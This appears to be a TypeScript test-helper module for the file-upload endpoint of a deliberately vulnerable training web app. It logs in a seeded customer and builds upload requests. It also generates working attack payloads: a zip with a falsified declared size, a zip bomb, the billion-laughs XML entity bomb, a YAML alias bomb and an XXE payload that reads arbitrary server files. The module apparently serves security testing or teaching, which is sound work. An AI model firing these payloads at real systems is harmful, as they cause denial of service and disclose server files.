import { strToU8, zipSync, type Zippable } from "fflate";
import { call, login } from "./instance";
import { persona } from "./seed";

/** A customer's bearer token, as the complaint page sends it. */
export async function customerToken(): Promise<string> {
  const jim = persona("jim");
  const response = await login(jim.email, jim.password);
  if (response.status !== 200) throw new Error(`login failed: ${response.status}`);
  return ((await response.json()) as { authentication: { token: string } }).authentication.token;
}

export interface UploadedFile {
  name: string;
  content: Uint8Array | string;
  type?: string;
}

/** The request of POST /file-upload with the file in the field `file`, as the complaint form sends it. */
export function uploadRequest(token: string | null, file: UploadedFile, field = "file"): { method: "POST"; body: FormData; headers: Record<string, string> } {
  const form = new FormData();
  const bytes = new Uint8Array(typeof file.content === "string" ? strToU8(file.content) : file.content);
  form.append(field, new Blob([bytes], { type: file.type ?? "application/octet-stream" }), file.name);
  return { method: "POST", body: form, headers: token ? { Authorization: `Bearer ${token}` } : {} };
}

/** POST /file-upload with the file in the field `file`, as the complaint form sends it. */
export function upload(token: string | null, file: UploadedFile, field = "file"): Promise<Response> {
  return call("/file-upload", uploadRequest(token, file, field));
}

/** A PDF of a few hundred bytes, well formed enough for any reader. */
export function smallPdf(text = "Invoice 1042: two bottles of orange juice arrived warm."): Uint8Array {
  const stream = `BT /F1 12 Tf 40 780 Td (${text}) Tj ET`;
  return strToU8(
    `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n` +
      `3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj\n` +
      `4 0 obj << /Length ${stream.length} >> stream\n${stream}\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
  );
}

/** A PDF padded with a comment to `size` bytes. */
export function pdfOfSize(size: number): Uint8Array {
  const head = smallPdf();
  const padded = new Uint8Array(size);
  padded.set(head);
  padded.fill(0x25, head.length); // "%": comment bytes after the trailer
  return padded;
}

export function zipOf(files: Record<string, string | Uint8Array>): Uint8Array {
  const zippable: Zippable = {};
  for (const [name, content] of Object.entries(files)) zippable[name] = typeof content === "string" ? strToU8(content) : content;
  return zipSync(zippable);
}

/** Rewrites the uncompressed size that every header of a (single-entry) archive declares. */
export function withDeclaredSize(archive: Uint8Array, size: number): Uint8Array {
  const patched = archive.slice();
  const view = new DataView(patched.buffer);
  for (let at = 0; at + 4 <= patched.length; at++) {
    const signature = view.getUint32(at, true);
    if (signature === 0x04034b50) view.setUint32(at + 22, size, true); // local header
    if (signature === 0x02014b50) view.setUint32(at + 24, size, true); // central directory
  }
  return patched;
}

/** A zip of one entry of `size` zeros, deflated as hard as it goes. */
export function zerosZip(name: string, size: number): Uint8Array {
  return zipSync({ [name]: [new Uint8Array(size), { level: 9 }] });
}

/** The classic billion laughs: `levels` entities, each ten references to the one before. */
export function billionLaughs(levels = 9, root = "lolz"): string {
  const entities = Array.from({ length: levels }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("\n ");
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [\n <!ENTITY lol0 "lol">\n ${entities}\n]>\n<${root}>&lol${levels};</${root}>\n`;
}

/** A YAML alias bomb: each level a list of nine aliases of the level before. */
export function yamlAliasBomb(levels = 6): string {
  const names = "abcdefghijklmnop";
  const lines = [`${names[0]}: &${names[0]} ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]`];
  for (let i = 1; i < levels; i++) lines.push(`${names[i]}: &${names[i]} [${Array(9).fill(`*${names[i - 1]}`).join(",")}]`);
  return `${lines.join("\n")}\n`;
}

/** Reads a file of the instance's virtual file system through an XML external entity (what a student can do too). */
export const readThroughXxe = (path: string) =>
  `<?xml version="1.0"?>\n<!DOCTYPE peek [<!ENTITY body SYSTEM "file://${path}">]>\n<peek>&body;</peek>\n`;
